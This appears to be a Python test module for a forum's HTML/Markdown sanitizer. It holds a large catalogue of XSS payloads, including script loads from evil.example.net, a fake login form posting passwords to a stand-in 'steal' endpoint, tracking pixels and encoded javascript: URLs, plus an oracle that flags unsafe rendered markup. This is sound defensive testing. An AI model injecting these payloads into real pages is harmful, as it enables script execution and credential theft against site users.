"""Hostile comment bodies, written for this project, and the oracle that judges what the renderer made.

``VECTORS`` maps a category to vectors: script and event handlers, URL schemes with encoding tricks,
SVG/MathML, mutation XSS, CSS, frames/forms/meta/base/object/embed/link, Markdown-specific vectors and
Unicode tricks. :func:`forbidden_constructs` parses output the way a browser would (a FULL html5lib
document parse, not a fragment) and lists everything that should not be there.
"""

from __future__ import annotations

import re

# bleach vendors html5lib (the WHATWG parsing algorithm in pure Python); no separate install needed.
from bleach._vendor import html5lib

from forum.policy.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_SCHEMES, ALLOWED_TAGS, LINK_REL

_SCRIPT_AND_EVENTS = [
    "<script>alert('s1')</script>",
    "<SCRIPT SRC=https://evil.example.net/x.js></SCRIPT>",
    "<script/src=//evil.example.net/x.js>",
    "<scr<script>ipt>alert('s4')</script>",
    "<img src=x onerror=alert('s5')>",
    "<body onload=alert('s6')>",
    "<p onmouseover=\"alert('s7')\">hover me</p>",
    "<a href=\"https://ok.example.com\" onclick=\"alert('s8')\">click</a>",
    "<em onfocus=alert('s9') tabindex=1 autofocus>focus</em>",
    "<details open ontoggle=alert('s10')><summary>x</summary></details>",
    "<input autofocus onfocus=alert('s11')>",
    "<video><source onerror=alert('s12')></video>",
    "<audio src=x onerror=alert('s13')>",
    "<marquee onstart=alert('s14')>moving</marquee>",
    "<strong/onmouseover=alert('s15')>slash separated</strong>",
    "<p\nonclick=alert('s16')>newline separated</p>",
    "<a href=https://ok.example.com onclick  =  alert('s17')>spaced</a>",
    "<blockquote ONCLICK=alert('s18')>upper</blockquote>",
    "<script>/*</script><script>*/alert('s19')</script>",
    "<<script>alert('s20');//<</script>",
    "<script type=module>import('https://evil.example.net/m.js')</script>",
    "<p>text</p><script>document.cookie</script>",
]
_URL_SCHEMES = [
    "<a href=\"javascript:alert('u1')\">plain</a>",
    "<a href=\"JaVaScRiPt:alert('u2')\">mixed case</a>",
    "<a href=\"&#x6a;avascript:alert('u3')\">hex entity</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('u4')\">decimal</a>",
    "<a href=\"&#0000106&#0000097vascript:alert('u5')\">padded entities</a>",
    "<a href=\"java&#x09;script:alert('u6')\">tab entity</a>",
    "<a href=\"java\tscript:alert('u7')\">raw tab</a>",
    "<a href=\"java\nscript:alert('u8')\">raw newline</a>",
    "<a href=\" \x01javascript:alert('u9')\">leading control</a>",
    "<a href=\"javascript&colon;alert('u10')\">named colon</a>",
    "<a href=\"vbscript:msgbox('u11')\">vbscript</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data html</a>",
    "<a href=\"data:image/svg+xml,<svg onload=alert('u13')>\">data svg</a>",
    "<a href='javascript://%0aalert(\"u14\")'>comment trick</a>",
    "<a href=\"feed:javascript:alert('u15')\">feed wrapper</a>",
    "<a href=\"jar:https://evil.example.net/x.jar!/\">jar</a>",
    "<a href=\"file:///etc/passwd\">file</a>",
    "<a href=\"//evil.example.net/path\">protocol relative</a>",
    "<a href=\"https:\\\\evil.example.net\">backslashes</a>",
    "<a href=\"https://trusted.example.com@evil.example.net/\">user info</a>",
    "<a href=\"/relative/path\">relative</a>",
    "<a href=\"#top\">fragment</a>",
    "<a href=\"https://ok.example.com/\" target=_blank rel=opener>target and rel</a>",
    "<a href=\"ht&#116;ps://ok.example.com/\" rel=\"me\">entity inside https</a>",
    "<a href=mailto:someone@example.com?subject=hi>mail</a>",
    "<a href=\"tel:+15555550100\">phone</a>",
    "<a href=\"%6A%61%76%61%73%63%72%69%70%74:alert('u27')\">percent-encoded scheme</a>",
    "<a href=\"\u0000javascript:alert('u28')\">nul first</a>",
    "<a href=\"javascript\u200b:alert('u29')\">zero-width in scheme</a>",
]
_SVG_AND_MATHML = [
    "<svg onload=alert('v1')>",
    "<svg><script>alert('v2')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('v3')\"><text x=0 y=20>svg link</text></a></svg>",
    "<svg><animate attributeName=href to=javascript:alert('v4') /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert('v5') /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert('v6')></iframe></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert('v7')/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('v8')>",
    "<math href=\"javascript:alert('v9')\">math link</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert('v10')>x</maction></math>",
    "<svg><title><p>in title</p><img src=x onerror=alert('v11')></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert('v12')</script>]]></desc></svg>",
]
_MUTATION = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert('m1')>\"></noscript>",
    "<template><script>alert('m2')</script></template>",
    "<style><img src=x onerror=alert('m3')></style>",
    "<!--><img src=x onerror=alert('m4')>-->",
    "<!-- --!><img src=x onerror=alert('m5')> -->",
    "<!--<img src=\"--><img src=x onerror=alert('m6')>\">",
    "<![CDATA[<img src=x onerror=alert('m7')>]]>",
    "<textarea><img src=x onerror=alert('m8')></textarea>",
    "<title><img src=x onerror=alert('m9')></title>",
    "<xmp><img src=x onerror=alert('m10')></xmp>",
    "<plaintext><img src=x onerror=alert('m11')>",
    "<noembed><img src=x onerror=alert('m12')></noembed>",
    "<noframes><img src=x onerror=alert('m13')></noframes>",
    "<p><style></p><img src=x onerror=alert('m14')></style></p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('m15')>",
    "<table><a href=\"https://ok.example.com\"><td>cell</td></a></table>",
    "<a href=\"https://ok.example.com\">outer<a href=\"javascript:alert('m17')\">inner</a></a>",
    "<pre><code><img src=x onerror=alert('m18')></code></pre>",
    "<em><p>misnested</em><script>alert('m19')</script></p>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert('m20')>",
    "<!DOCTYPE html><html><head><script>alert('m21')</script></head></html>",
    "<a href=\"https://ok.example.com\" title=\"</a><img src=x onerror=alert('m22')>\">title escape</a>",
    "<a title='a\" onmouseover=\"alert(23)' href=\"https://ok.example.com\">quote swap</a>",
]
_CSS = [
    "<p style=\"background:url(javascript:alert('c1'))\">url</p>",
    "<p style=\"width: expression(alert('c2'))\">expression</p>",
    "<em style=\"behavior: url(https://evil.example.net/x.htc)\">behavior</em>",
    "<style>@import 'https://evil.example.net/x.css';</style>",
    "<style>body{background:url(\"javascript:alert('c5')\")}</style>",
    "<p style=\"-moz-binding:url(https://evil.example.net/x.xml#xss)\">binding</p>",
    "<strong style=\"position:fixed;top:0;left:0;width:100%;height:100%\">overlay</strong>",
    "<p class=\"admin-banner\" id=\"login\">spoofed class and id</p>",
    "<link rel=stylesheet href=https://evil.example.net/x.css>",
    "<p style=\"color:red\" STYLE=\"color:blue\">duplicate style</p>",
]
_EMBEDDING = [
    "<iframe src=\"javascript:alert('e1')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('e2')</script>\"></iframe>",
    "<frameset><frame src=\"javascript:alert('e3')\"></frameset>",
    "<form action=\"https://evil.example.net/steal\"><input name=pw type=password><button>Log in</button></form>",
    "<button formaction=\"javascript:alert('e5')\">go</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('e6')\">",
    "<base href=\"https://evil.example.net/\">",
    "<object data=\"javascript:alert('e8')\"></object>",
    "<embed src=\"https://evil.example.net/x.swf\">",
    "<link rel=import href=\"https://evil.example.net/x.html\">",
    "<img src=\"https://tracker.example.net/pixel.gif\" width=1 height=1>",
    "<img srcset=\"https://tracker.example.net/a.png 1x\">",
    "<picture><source srcset=\"https://tracker.example.net/b.png\"></picture>",
    "<portal src=\"https://evil.example.net\"></portal>",
    "<applet code=Evil.class></applet>",
    "<isindex action=javascript:alert('e16') type=submit>",
    "<keygen autofocus onfocus=alert('e17')>",
    "<dialog open><form method=dialog><button>x</button></form></dialog>",
]
_MARKDOWN = [
    "[click me](javascript:alert('k1'))",
    "[click me](JAVASCRIPT:alert('k2'))",
    "[click me](&#x6a;avascript:alert('k3'))",
    "[click me](java\\script:alert('k4'))",
    "[click me](<javascript:alert('k5')>)",
    "[click me](vbscript:msgbox('k6'))",
    "[click me](data:text/html;base64,PHNjcmlwdD4=)",
    "[ref link][evil]\n\n[evil]: javascript:alert('k8')",
    "[ref link][ok]\n\n[ok]: https://ok.example.com \"title\" onclick=alert('k9')",
    "<javascript:alert('k10')>",
    "<https://ok.example.com/?q=\"><script>alert('k11')</script>>",
    "![tracking pixel](https://tracker.example.net/p.gif)",
    "![data](data:image/png;base64,iVBORw0KGgo=)",
    "![x](https://ok.example.com/a.png \"onerror=alert('k14')\")",
    "[x](https://ok.example.com \"a\\\" onmouseover=\\\"alert('k15')\")",
    "[x](https://ok.example.com 'single \" quote')",
    "[x](https://ok.example.com (paren \"title\"))",
    "**bold <script>alert('k18')</script>**",
    "`<script>alert('k19')</script>`",
    "```html\n<script>alert('k20')</script>\n```",
    "    <script>alert('k21')</script>",
    "> <img src=x onerror=alert('k22')>",
    "- <a href=\"javascript:alert('k23')\">list item</a>",
    "<div markdown=1>\n[x](javascript:alert('k24'))\n</div>",
    "[![img](https://ok.example.com/i.png)](javascript:alert('k25'))",
    "[a](https://ok.example.com)<a href=javascript:alert('k26')>b</a>",
    "[x]: https://ok.example.com\n[x]",
    "www.ok.example.com/<script>alert('k28')</script>",
    "https://ok.example.com/\"onmouseover=\"alert('k29')",
    "~~<img src=x onerror=alert('k30')>~~",
    "# <script>alert('k31')</script> heading",
    "Title\n===\n<img src=x onerror=alert('k32')>",
    "1. one\n\n<ol start=\"1 onmouseover=alert('k33')\"><li>x</li></ol>",
    "<a href=\"https://ok.example.com\">[nested](javascript:alert('k34'))</a>",
    "[x](https://ok.example.com\u0000javascript:alert('k35'))",
]
_UNICODE = [
    "\uff1cscript\uff1ealert('w1')\uff1c/script\uff1e",
    "<a href=\"https://ok.example.com\">\u202eexe.txt</a>",
    "safe text \u202e<script>alert('w3')</script>",
    "[x](java\u200bscript:alert('w4'))",
    "<a href=\"jav\u200dascript:alert('w5')\">zwj</a>",
    "<scr\u0000ipt>alert('w6')</scr\u0000ipt>",
    "<img\u0000src=x onerror=alert('w7')>",
    "<a href=\"https://ok.example.com\">\u200b\u200b\u200b</a>",
    "\ud800<script>alert('w9')</script>\udfff",
    "<a\u00a0href=\"javascript:alert('w10')\">nbsp in tag</a>",
    "<a href=\"javascript\uff1aalert('w11')\">fullwidth colon</a>",
    "\u2028<script>alert('w12')</script>\u2029",
    "<a href=\"https://\u0435xample.com\">cyrillic e</a>",
    "\U000e0041\U000e0042 tag characters <script>alert('w14')</script>",
    "\x1b[31mterminal escape\x1b[0m<img src=x onerror=alert('w15')>",
    "<\u0131mg src=x onerror=alert('w16')>",
    "<a href=\"\ufeffjavascript:alert('w17')\">bom</a>",
]

VECTORS: dict[str, list[str]] = {
    "script and event handlers": _SCRIPT_AND_EVENTS,
    "URL schemes and encodings": _URL_SCHEMES,
    "SVG and MathML": _SVG_AND_MATHML,
    "mutation XSS": _MUTATION,
    "CSS": _CSS,
    "frames, forms, meta, base, object, embed, link, images": _EMBEDDING,
    "Markdown": _MARKDOWN,
    "Unicode tricks": _UNICODE,
}
ALL_VECTORS: list[str] = [vector for vectors in VECTORS.values() for vector in vectors]

# ------------------------------------------------------------------------------------------------- oracle
_XHTML = "{http://www.w3.org/1999/xhtml}"
_DOCUMENT_TAGS = frozenset({"html", "head", "body"})
_URL_NOISE_RE = re.compile(r"[\t\n\r]")  # browsers delete these anywhere in a URL
_C0_AND_SPACE = "".join(map(chr, range(0x21)))  # ... and these at either end
_SAFE_HREF_RE = re.compile(r"(?:https?://[^\s/\\@?#]+(?:[/?#]\S*)?|mailto:\S+)", re.IGNORECASE)


def forbidden_constructs(rendered: str) -> list[str]:
    """Everything in ``rendered`` that a browser would treat as markup we do not allow. Empty means safe.

    The output is parsed as a whole document, as a page embedding it would be: every element must be an
    HTML-namespace element from the allow-list (plus the parser's own html/head/body), every attribute on
    the allow-list for its tag, ``rel`` exactly ours, every ``href`` an absolute http(s)/mailto URL once
    entities are decoded (the parser does that) and tab/newline removed; no comments.
    """
    problems: list[str] = []
    document = html5lib.parse(rendered)
    for element in document.iter():
        tag = element.tag
        if not isinstance(tag, str):  # a comment or processing instruction
            problems.append(f"non-element node {tag!r}")
            continue
        if not tag.startswith(_XHTML):
            problems.append(f"foreign element {tag}")
            continue
        name = tag[len(_XHTML):]
        if name not in ALLOWED_TAGS and name not in _DOCUMENT_TAGS:
            problems.append(f"element <{name}>")
        for attribute, value in element.attrib.items():
            if name == "a" and attribute == "rel":
                if value != LINK_REL:
                    problems.append(f"rel={value!r}")
                continue
            if attribute not in ALLOWED_ATTRIBUTES.get(name, ()):
                problems.append(f"attribute {attribute} on <{name}>")
            elif attribute == "href":
                url = _URL_NOISE_RE.sub("", value).strip(_C0_AND_SPACE)
                scheme = url.split(":", 1)[0].lower()
                if scheme not in ALLOWED_SCHEMES or not _SAFE_HREF_RE.fullmatch(url):
                    problems.append(f"href={value!r}")
            elif attribute == "start" and not value.isdigit():
                problems.append(f"start={value!r}")
        if name == "a" and element.attrib.get("rel") != LINK_REL:
            problems.append("<a> without our rel")
        if element.tail is not None and "\x00" in element.tail:
            problems.append("NUL in text")
    return problems
